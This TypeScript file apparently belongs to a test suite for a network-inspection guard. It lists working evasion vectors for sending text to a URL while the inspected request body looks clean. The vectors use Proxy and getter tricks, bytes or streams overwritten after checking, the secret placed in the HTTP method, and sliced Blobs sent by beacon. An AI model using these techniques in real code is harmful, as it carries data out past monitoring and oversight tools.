import type { Vector } from "./vector.ts";

/** Bodies that are clean where they are looked at and hold the text where they are sent, if the page can have its way. */
export const BODIES: readonly Vector[] = [
  {
    name: "request-hidden-body",
    run: (text, url) => {
      const request = new Request(url, { method: "POST", body: "clean", keepalive: true });
      const init = new Proxy({ body: text }, { has: () => false });
      return fetch(request, init);
    },
  },
  {
    name: "request-function-init",
    run: (text, url) => {
      const request = new Request(url, { method: "POST", body: "clean", keepalive: true });
      const init = Object.assign(() => undefined, { body: text });
      return fetch(request, init);
    },
  },
  {
    name: "request-copied",
    run: (body, url) => {
      const request = new Request(new Request(url, { method: "POST", body }).clone(), {
        keepalive: true,
      });
      return fetch(request);
    },
  },
  {
    name: "request-bytes-cleaned",
    run: (text, url) => {
      const body = new TextEncoder().encode(text);
      const request = new Request(url, { method: "POST", body, keepalive: true });
      body.fill(120);
      return fetch(request);
    },
  },
  {
    name: "request-bytes-filled",
    run: (text, url) => {
      const secret = new TextEncoder().encode(text);
      const body = new Uint8Array(secret.length).fill(120);
      const init = {
        method: "POST",
        body,
        get signal() {
          body.set(secret);
          return null;
        },
      };
      return fetch(new Request(url, init), { keepalive: true });
    },
  },
  {
    name: "stream-overwritten",
    run: (text, url) => {
      const secret = new TextEncoder().encode(text);
      const bytes = [1, 2].map(() => new Uint8Array(secret.length).fill(120));
      const [first, second] = bytes.map((each) => {
        const body = new ReadableStream({
          start: (controller) => {
            controller.enqueue(each);
            controller.close();
          },
        });
        return { method: "POST", body, duplex: "half" } as RequestInit;
      });
      const sent = Promise.all([fetch(url, first), fetch(new Request(url, second))]);
      for (const ms of [0, 1, 2, 4, 8])
        setTimeout(() => {
          for (const each of bytes) each.set(secret);
        }, ms);
      return sent;
    },
    only: "chromium",
  },
  {
    name: "fetch-method",
    run: (text, url) => fetch(url, { method: text.split(" ")[2] ?? "", body: "clean" }),
  },
  {
    name: "fetch-method-and-query",
    run: (text, url) => fetch(`${url}?q=clean`, { method: text.split(" ")[2] ?? "" }),
  },
  {
    name: "xhr-method",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open(text.split(" ")[2] ?? "", url);
      xhr.send();
    },
  },
  {
    name: "blob-slice-second-place",
    run: (text, url) => {
      const blob = new Blob([`${"x".repeat(text.length)}${text}`]);
      let reads = 0;
      const from = Object.assign(0, { valueOf: () => (reads++ === 0 ? text.length : 0) });
      const to = Object.assign(0, { valueOf: () => text.length * (reads > 1 ? 1 : 2) });
      navigator.sendBeacon(url, blob.slice(from, to));
    },
  },
  {
    name: "blob-slices-rounded",
    run: (text, url) => {
      // A Blob rounds where it begins and ends, texts cut that off.
      const blob = new Blob([text]);
      const parts = Array.from(text, (_, at) => blob.slice(at - 0.4, at + 0.6));
      navigator.sendBeacon(url, new Blob(parts));
    },
  },
  {
    name: "blob-of-blobs",
    run: (text, url) => {
      const parts = Array.from(text, (letter) => new Blob([letter]));
      navigator.sendBeacon(url, new Blob(parts, { endings: "transparent" }));
    },
  },
];
